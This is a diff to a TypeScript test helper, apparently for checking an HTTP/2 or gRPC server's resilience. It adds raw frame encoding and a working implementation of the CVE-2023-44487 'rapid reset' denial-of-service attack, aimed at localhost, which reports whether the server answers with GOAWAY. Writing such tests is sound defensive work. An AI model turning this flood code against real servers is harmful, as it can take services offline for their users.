@@ -10,8 +10,8 @@ export function sleep(ms: number): Promise<void> {
 }
 
 // An HTTP/2 session whose errors are expected and ignored (the server may reset or drop it).
-export function session(url: string): http2.ClientHttp2Session {
-  const s = http2.connect(url);
+export function session(url: string, options: http2.ClientSessionOptions = {}): http2.ClientHttp2Session {
+  const s = http2.connect(url, options);
   s.on("error", () => {});
   return s;
 }
@@ -77,4 +77,57 @@ export async function untilClosed(outcomes: { closedAtMs: number | null }[], wit
 
 export function grpcHeaders(path: string): http2.OutgoingHttpHeaders {
   return { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
+}
+
+// One HTTP/2 frame: 24-bit length, type, flags, stream id, payload.
+function h2Frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head[3] = type;
+  head[4] = flags;
+  head.writeUInt32BE(streamId, 5);
+  return Buffer.concat([head, payload]);
+}
+
+// An HPACK header field, literal without indexing, its name taken from the static table.
+function hpackLiteral(nameIndex: number[], value: string): Buffer {
+  const v = Buffer.from(value);
+  return Buffer.concat([Buffer.from(nameIndex), Buffer.from([v.length]), v]);
+}
+
+// Rapid reset (CVE-2023-44487) with raw frames, as an attacker sends it: each stream's HEADERS (without
+// END_STREAM) directly followed by its RST_STREAM(CANCEL), all in one write. Node's own client cannot do this
+// (it ends a stream before resetting it). Resolves with the GOAWAY error code the server sent, if any, once the
+// server closed the connection or `waitMs` passed.
+export function rapidReset(port: number, path: string, streams: number, waitMs: number): Promise<number | null> {
+  const headers = Buffer.concat([
+    Buffer.from([0x83, 0x86]), // :method POST, :scheme http
+    hpackLiteral([0x04], path), // :path
+    hpackLiteral([0x01], "127.0.0.1"), // :authority
+    hpackLiteral([0x0f, 0x10], "application/grpc"), // content-type
+  ]);
+  const cancel = Buffer.alloc(4);
+  cancel.writeUInt32BE(0x8);
+  const frames = [H2_PREFACE, h2Frame(0x4, 0, 0, Buffer.alloc(0))];
+  for (let i = 0; i < streams; i++) {
+    frames.push(h2Frame(0x1, 0x4, 2 * i + 1, headers), h2Frame(0x3, 0, 2 * i + 1, cancel));
+  }
+  return new Promise((resolve) => {
+    let received = Buffer.alloc(0);
+    const socket = net.connect(port, "127.0.0.1", () => socket.write(Buffer.concat(frames)));
+    socket.on("data", (d: Buffer) => (received = Buffer.concat([received, d])));
+    socket.on("error", () => {});
+    const done = (): void => {
+      clearTimeout(timer);
+      socket.destroy();
+      let goaway: number | null = null;
+      for (let at = 0; at + 9 <= received.length; at += 9 + received.readUIntBE(at, 3)) {
+        // The first GOAWAY says why; closing the session may send a second one.
+        if (received[at + 3] === 0x7 && at + 17 <= received.length && goaway === null) goaway = received.readUInt32BE(at + 13);
+      }
+      resolve(goaway);
+    };
+    const timer = setTimeout(done, waitMs);
+    socket.once("close", done);
+  });
 }
